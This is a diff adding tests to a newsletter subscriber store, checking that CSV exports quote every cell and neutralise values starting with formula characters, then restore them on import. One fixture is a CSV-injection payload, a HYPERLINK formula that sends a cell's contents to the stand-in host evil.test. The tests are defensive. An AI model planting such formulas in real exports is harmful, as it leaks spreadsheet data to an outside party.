@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import sqlite3
 from pathlib import Path
@@ -15,7 +16,9 @@ from publisher.store import (
     LATEST,
     MIGRATIONS,
     Store,
+    neutralise_cell,
     normalize_email,
+    restore_cell,
     validate_email,
 )
 
@@ -297,9 +300,10 @@ def test_export_csv_writes_the_header_then_one_row_per_reader(store):
     out = io.StringIO()
     assert store.export_csv(out) == 2
     lines = out.getvalue().splitlines()
-    assert lines[0] == "email,first_name,goal,tags,status,consent_source,consent_at,created_at"
-    assert lines[1].startswith("a@example.com,,general,,unsubscribed,cli,")
-    assert lines[2].startswith("b@example.com,Bo,half,road;masters,active,cli,")
+    assert lines[0] == ('"email","first_name","goal","tags","status","consent_source",'
+                        '"consent_at","created_at"')
+    assert lines[1].startswith('"a@example.com","","general","","unsubscribed","cli",')
+    assert lines[2].startswith('"b@example.com","Bo","half","road;masters","active","cli",')
     only_half = io.StringIO()
     assert store.export_csv(only_half, goal="half") == 1
 
@@ -316,6 +320,67 @@ def test_an_export_imports_back_into_a_new_store_unchanged(store, tmp_path):
         assert [(s.email, s.goal, s.tags, s.status) for s in other.list()] == [
             ("a@example.com", "general", (), "bounced"),
             ("b@example.com", "half", ("road",), "active")]
+
+
+FORMULA_NAMES = ['=HYPERLINK("https://evil.test/?"&A1,"Click")', "+1-1", "-2+3", "@SUM(A1:A9)",
+                 "'=already quoted", "''=twice", "'plain quote", "O'Brien"]
+
+
+def exported_rows(store: Store) -> list[list[str]]:
+    out = io.StringIO()
+    store.export_csv(out)
+    return list(csv.reader(io.StringIO(out.getvalue())))
+
+
+def test_export_neutralises_cells_that_start_with_a_formula_character(store):
+    for number, name in enumerate(FORMULA_NAMES):
+        store.add(f"r{number}@example.com", first_name=name, tags=["=1+1", "road"])
+    store.add("=cmd@example.com", first_name="+SUM(1)")
+    rows = exported_rows(store)[1:]
+    cells = [cell for row in rows for cell in row]
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    assert {row[1] for row in rows} == {
+        "'=HYPERLINK(\"https://evil.test/?\"&A1,\"Click\")", "'+1-1", "'-2+3", "'@SUM(A1:A9)",
+        "''=already quoted", "'''=twice", "'plain quote", "O'Brien", "'+SUM(1)"}
+    assert rows[0][0] == "'=cmd@example.com"
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
+    ("\rx", "'\rx"), ("'=1", "''=1"), ("''\t", "'''\t"), ("'x", "'x"), ("a=1", "a=1"),
+    ("", "")])
+def test_a_neutralised_cell_restores_to_exactly_the_value(value, cell):
+    assert neutralise_cell(value) == cell
+    assert restore_cell(cell) == value
+
+
+def test_every_exported_cell_is_quoted_so_semicolon_spreadsheets_do_not_split_it(store):
+    store.add("semi@example.com", first_name="Bo;=1+1")
+    out = io.StringIO()
+    store.export_csv(out)
+    assert '"semi@example.com","Bo;=1+1","general"' in out.getvalue()
+
+
+def test_an_export_with_formula_cells_imports_back_exactly(store, tmp_path):
+    for number, name in enumerate(FORMULA_NAMES):
+        store.add(f"r{number}@example.com", first_name=name, goal="half",
+                  tags=[name.replace(";", ""), "'-x"], status="bounced")
+    store.add("-minus@example.com", first_name="@home")
+    path = tmp_path / "export.csv"
+    with path.open("w", encoding="utf-8", newline="") as out:
+        store.export_csv(out)
+    with Store.open(tmp_path / "other.db") as other:
+        report = other.import_csv(path, GOALS)
+        assert report.errors == ()
+        assert ([(s.email, s.first_name, s.goal, s.tags, s.status) for s in other.list()]
+                == [(s.email, s.first_name, s.goal, s.tags, s.status) for s in store.list()])
+
+
+def test_a_leading_quote_not_before_a_formula_character_is_kept_on_import(store, tmp_path):
+    path = write_csv(tmp_path, HEADER + "tis@example.com,'Tis,5k,,\n"
+                     "eq@example.com,'=x,5k,,\n")
+    assert store.import_csv(path, GOALS).errors == ()
+    assert [s.first_name for s in store.list()] == ["=x", "'Tis"]
 
 
 # -- CSV import ----------------------------------------------------------------------------
